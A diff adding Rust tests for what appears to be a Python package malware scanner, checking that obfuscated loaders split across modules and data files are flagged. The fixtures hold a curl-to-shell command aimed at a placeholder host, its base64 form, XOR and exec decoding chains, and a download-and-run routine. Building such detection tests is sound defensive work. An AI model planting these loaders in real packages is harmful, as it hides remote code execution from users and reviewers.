@@ -1,0 +1,161 @@
+//! Attacks whose parts lie in modules and data files of their own: what decodes, what is decoded, and
+//! what runs it. Each has to give its payload as a layer of the report.
+#![expect(clippy::unwrap_used, reason = "tests fail by panicking")]
+
+use std::io::Cursor;
+
+use fondaco_archive::Limits;
+use fondaco_inspect::{Context, inspect, on_large_stack};
+use fondaco_testkit::Wheel;
+use fondaco_verdict::{Report, Verdict};
+
+/// Harmless: nobody answers at the address.
+const PAYLOAD: &str = "import os\nos.system('curl -s http://x.example.invalid/a | sh')\n";
+/// The same in base64.
+const ENCODED: &str = "aW1wb3J0IG9zCm9zLnN5c3RlbSgnY3VybCAtcyBodHRwOi8veC5leGFtcGxlLmludmFsaWQvYSB8IHNoJykK";
+
+const DECODER: &str = "import base64\n\n\ndef restore(text):\n    return base64.b64decode(text).decode()\n";
+
+type Files<'f> = &'f [(&'f str, &'f str)];
+
+fn inspected(files: Files<'_>) -> Report {
+    let steps: String = (0..25)
+        .map(|n| format!("def step_{n}(values):\n    return [v for v in values if v > {n}]\n\n\n"))
+        .collect();
+    let mut wheel = Wheel::new("series", "1.4.2").file("series/steps.py", steps);
+    for (path, text) in files {
+        wheel = wheel.file(path, text.replace("ENCODED", ENCODED));
+    }
+    let dist = wheel.build();
+    let context = Context { file_name: dist.file_name, ..Context::default() };
+    let bytes = dist.bytes.to_vec();
+    on_large_stack(move || inspect(Cursor::new(bytes), &context, &Limits::for_testing())).unwrap()
+}
+
+fn is_unfolded(files: Files<'_>) -> bool {
+    let report = inspected(files);
+    let has_layer = report.layers.iter().any(|layer| layer.size == PAYLOAD.len() as u64);
+    if report.verdict != Verdict::Malicious || !has_layer {
+        eprintln!("{files:#?}\n{:?} {:.2} {:#?}", report.verdict, report.score, report.layers);
+    }
+    report.verdict == Verdict::Malicious && has_layer
+}
+
+#[test]
+fn a_decoder_in_another_module_is_followed() {
+    let kept = ("series/kept.py", "DATA = 'ENCODED'\n");
+    for init in [
+        "from .tool import restore\nfrom .kept import DATA\nexec(restore(DATA))\n",
+        "from .tool import *\nfrom .kept import *\nexec(restore(DATA))\n",
+        "from . import kept, tool\nexec(tool.restore(kept.DATA))\n",
+        "import series.kept\nimport series.tool as t\nexec(t.restore(series.kept.DATA))\n",
+        "import importlib\ntool = importlib.import_module('.tool', __package__)\n\
+         kept = __import__('series.kept', fromlist=['DATA'])\nexec(tool.restore(kept.DATA))\n",
+        "import sys\nfrom . import kept, tool\nexec(sys.modules[__name__ + '.tool'].restore(kept.DATA))\n",
+        "def begin():\n    from . import kept, tool\n    exec(tool.restore(kept.DATA))\n\n\nbegin()\n",
+    ] {
+        assert!(is_unfolded(&[("series/__init__.py", init), ("series/tool.py", DECODER), kept]));
+    }
+}
+
+#[test]
+fn a_method_and_an_own_cipher_in_another_module_are_followed() {
+    let method = "import base64\n\n\nclass Tool:\n    def __init__(self, key):\n        self.key = key\n\n    \
+                  def restore(self, text):\n        return base64.b64decode(text)\n";
+    let init = "from .tool import Tool\nexec(Tool(7).restore('ENCODED'))\n";
+    assert!(is_unfolded(&[("series/__init__.py", init), ("series/tool.py", method)]));
+    let numbers: Vec<String> = PAYLOAD.bytes().map(|byte| (byte ^ 23).to_string()).collect();
+    let kept = format!("KEY = 23\nDATA = [{}]\n", numbers.join(", "));
+    let cipher = "def restore(data, key):\n    return bytes(value ^ key for value in data).decode()\n";
+    let init = "from . import kept, tool\nexec(tool.restore(kept.DATA, kept.KEY))\n";
+    assert!(is_unfolded(&[
+        ("series/__init__.py", init),
+        ("series/tool.py", cipher),
+        ("series/kept.py", &kept)
+    ]));
+}
+
+#[test]
+fn what_runs_it_may_lie_elsewhere_too() {
+    let run = "import base64\n\n\ndef begin(text):\n    exec(base64.b64decode(text))\n";
+    let init = "from .run import begin\nbegin('ENCODED')\n";
+    assert!(is_unfolded(&[("series/__init__.py", init), ("series/run.py", run)]));
+    // One module calls the next.
+    let first = "from .kept import DATA\nfrom .tool import restore\n\n\ndef begin():\n    from .run import go\n    go(restore(DATA))\n";
+    assert!(is_unfolded(&[
+        ("series/__init__.py", "from .first import begin\nbegin()\n"),
+        ("series/first.py", first),
+        ("series/tool.py", DECODER),
+        ("series/kept.py", "DATA = 'ENCODED'\n"),
+        ("series/run.py", "def go(text):\n    exec(text)\n"),
+    ]));
+}
+
+#[test]
+fn what_was_fetched_is_followed_to_where_it_is_started() {
+    let report = inspected(&[
+        (
+            "series/__init__.py",
+            "from .get import get\nfrom .run import run\nrun(get('http://x.example.invalid/a'))\n",
+        ),
+        (
+            "series/get.py",
+            "import os, tempfile, urllib.request\n\n\ndef get(address):\n    path = os.path.join(tempfile.gettempdir(), 'a.exe')\n    urllib.request.urlretrieve(address, path)\n    return path\n",
+        ),
+        ("series/run.py", "import subprocess\n\n\ndef run(path):\n    subprocess.Popen([path])\n"),
+    ]);
+    let found: Vec<&str> = report.findings.iter().map(|finding| finding.rule.as_str()).collect();
+    assert!(report.verdict == Verdict::Malicious && found.contains(&"fetched-program"), "{found:?}");
+}
+
+#[test]
+fn data_files_that_are_decoded_and_run_are_read() {
+    for init in [
+        "import base64, pkgutil\nexec(base64.b64decode(pkgutil.get_data(__name__, 'units.dat')))\n",
+        "import base64\nfrom importlib import resources\n\
+         exec(base64.b64decode(resources.files(__package__).joinpath('units.dat').read_text()))\n",
+        "import base64, os\nwith open(os.path.join(os.path.dirname(__file__), 'units.dat')) as file:\n    \
+         exec(base64.b64decode(file.read()))\n",
+        "import base64\nfrom pathlib import Path\n\
+         exec(base64.b64decode(Path(__file__).with_name('units.dat').read_bytes()))\n",
+        "from .tool import restore, text_of\nexec(restore(text_of('units.dat')))\n",
+    ] {
+        let tool = format!(
+            "{DECODER}\n\ndef text_of(name):\n    import os\n    with open(os.path.join(os.path.dirname(__file__), name)) as file:\n        return file.read()\n"
+        );
+        assert!(is_unfolded(&[
+            ("series/__init__.py", init),
+            ("series/tool.py", &tool),
+            ("series/units.dat", ENCODED),
+        ]));
+    }
+}
+
+/// Modules that decode for others, and data that is decoded, are ordinary.
+#[test]
+fn honest_packages_that_decode_are_clean() {
+    let icon =
+        "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";
+    for files in [
+        [
+            (
+                "series/__init__.py",
+                "from .tool import restore\nfrom .kept import ICON\n\n\ndef icon():\n    return restore(ICON)\n",
+            ),
+            ("series/kept.py", "ICON = 'ICON64'\n"),
+        ],
+        [
+            (
+                "series/__init__.py",
+                "import pkgutil\nfrom .tool import restore\n\n\ndef icon():\n    return restore(pkgutil.get_data(__name__, 'icon.dat'))\n",
+            ),
+            ("series/icon.dat", "ICON64"),
+        ],
+    ] {
+        let texts = files.map(|(path, text)| (path, text.replace("ICON64", icon)));
+        let mut all: Vec<(&str, &str)> = texts.iter().map(|(path, text)| (*path, text.as_str())).collect();
+        all.push(("series/tool.py", DECODER));
+        let report = inspected(&all);
+        assert_eq!((report.verdict, report.score), (Verdict::Clean, 0.0), "{:#?}", report.findings);
+    }
+}
